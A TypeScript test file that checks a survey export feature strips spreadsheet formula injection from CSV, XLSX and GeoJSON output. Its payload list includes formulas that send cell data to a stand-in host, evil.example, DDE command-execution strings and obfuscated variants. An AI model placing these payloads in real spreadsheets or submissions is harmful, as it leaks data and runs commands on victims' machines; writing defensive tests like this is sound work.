import { read, utils } from '@e965/xlsx'
import { describe, expect, it } from 'vitest'
import { FormContent } from '#/api/kpi/form/schema.ts'
import { formColumns } from '#/dataset/model/columns.ts'
import type { ExportFormat, ExportJob, ExportResult, FromWorker } from '#/features/export/export-job.ts'
import { planSheet } from '#/features/export/export-plan.ts'
import { createExportWork } from '#/features/export/export-writer-host.ts'
import { i18n, startI18n } from '#/i18n/i18n.ts'
import { asText } from '#/lib/spreadsheet/as-text.ts'
import { hostileValues } from './values.ts'

/** What Excel, LibreOffice and Google Sheets would compute, and what people put in front to hide it. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u200B=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '","=1+1","',
  ';=1+1;',
  '"\r\n=1+1',
  '=1+1\n=2',
  '_x003D_1+1',
]
const VALUES = [...hostileValues, ...FORMULAS]

const TYPES = ['text', 'integer', 'date', 'datetime', 'time', 'geopoint', 'image', 'calculate']

/** Each value as an answer of every kind, as the label and the value of a choice, as a question, and inside a group. */
const content = FormContent.parse({
  survey: [
    ...TYPES.map((type) => ({ type, name: type, $xpath: type, label: [`${type} =1+1`] })),
    { type: 'select_one', name: 'one', $xpath: 'one', label: ['=one'], select_from_list_name: 'list' },
    { type: 'select_multiple', name: 'many', $xpath: 'many', label: ['@many'], select_from_list_name: 'list' },
    { type: 'begin_repeat', name: 'again', $xpath: 'again', label: ['=again/[]'] },
    { type: 'text', name: 'inner', $xpath: 'again/inner', label: ['+inner'] },
    { type: 'end_repeat' },
  ],
  choices: VALUES.map((value, index) => ({ list_name: 'list', name: `c${index}`, label: [value] })),
  translations: ['English (en)'],
})
const rows = VALUES.map((value, index) => ({
  _id: index + 1,
  _uuid: value,
  _submitted_by: value,
  _submission_time: value,
  ...Object.fromEntries(TYPES.map((type) => [type, value])),
  one: `c${index}`,
  many: `c${index} ${value}`,
  again: [{ 'again/inner': value }],
  [`older ${value}`]: value,
}))

async function exported(format: ExportFormat, language: number | null, given: ExportJob['csv']['separator'] = ',') {
  await startI18n()
  await i18n.loadNamespaces(['exporting', 'submissions'])
  const words = { t: i18n.getFixedT('en', ['exporting', 'submissions']), timeZone: 'UTC' }
  const choices = { format, language, groups: true, eachChoice: false, metadata: true }
  const told: FromWorker[] = []
  const take = createExportWork((message) => told.push(message))
  const job: ExportJob = {
    format,
    sheet: planSheet(formColumns(content), choices, words, "=Sheet'[1]"),
    takesUnknown: true,
    sort: null,
    csv: { separator: given, decimal: given === ';' ? ',' : '.' },
    place: format === 'geojson' ? { key: 'geopoint', isArea: false } : null,
    entryHeads: { index: '=i', parentSheet: '=s', parentIndex: '=p', submission: '=u' },
  }
  await take({ type: 'start', job })
  await take({ type: 'rows', rows })
  await take({ type: 'finish' })
  const done = told.at(-1)
  if (done?.type !== 'done') throw new Error(JSON.stringify(done))
  return done.result
}

/** As a reader that computes nothing, and keeps every text. */
async function sheetsOf({ file }: ExportResult, FS = ',') {
  const { Sheets } = read(await file.arrayBuffer(), { type: 'array', raw: true, cellFormula: true, FS })
  return Object.values(Sheets)
}

const cellsOf = (sheet: object) => Object.entries(sheet).filter(([at]) => !at.startsWith('!'))
/** Lines of cells end with CR LF or LF for the reader. */
const sameLines = (text: unknown) => String(text).replaceAll(/\r\n?/g, '\n')

describe.each([0, null])('With labels of the language %s', (language) => {
  it.each([',', ';'] as const)('CSV with "%s" holds no formula, and each answer whole', async (separator) => {
    const [sheet = {}] = await sheetsOf(await exported('csv', language, separator), separator)
    const table = utils.sheet_to_json<string[]>(sheet, { header: 1, defval: '', blankrows: true })
    const isFormula = (text: string) => asText(text) !== text
    expect(table.flat().map(String).filter(isFormula)).toEqual([])
    expect(table).toHaveLength(rows.length + 1)
    expect(new Set(table.map(({ length }) => length)).size).toBe(1)
    const wrong = VALUES.filter(
      (value, index) => sameLines(table[index + 1]?.[0]) !== sameLines(asText(value).toWellFormed()),
    )
    expect(wrong).toEqual([])
  })

  it('XLSX holds no formula, and each answer whole, but for what XML cannot hold', async () => {
    const result = await exported('xlsx', language)
    const sheets = await sheetsOf(result)
    expect(sheets).toHaveLength(2)
    for (const [at, cell] of sheets.flatMap(cellsOf)) {
      expect('f' in cell || 'F' in cell, at).toBe(false)
      expect(['s', 'n'], at).toContain(cell.t)
    }
    const [sheet = {}] = sheets
    const shown = new Map(cellsOf(sheet))
    const wrong = VALUES.filter((value, index) => {
      const cell: { v?: unknown } | undefined = shown.get(`A${index + 2}`)
      // The reader takes `_x003D_` apart itself, as Excel does.
      return sameLines(cell?.v ?? '') !== sameLines(inXml(value))
    })
    expect(wrong).toEqual([])
  })

  it('GeoJSON is JSON with the texts as they are', async () => {
    const { file, rows: count, withoutPlace } = await exported('geojson', language)
    const { features } = JSON.parse(await file.text()) as { features: unknown[] }
    expect(features.length + withoutPlace).toBe(count)
  })
})

const inXml = (text: string) =>
  text.replaceAll(/[^\t\n\r\u0020-\u{D7FF}\u{E000}-\u{FFFD}\u{10000}-\u{10FFFF}]/gu, '\u{FFFD}')
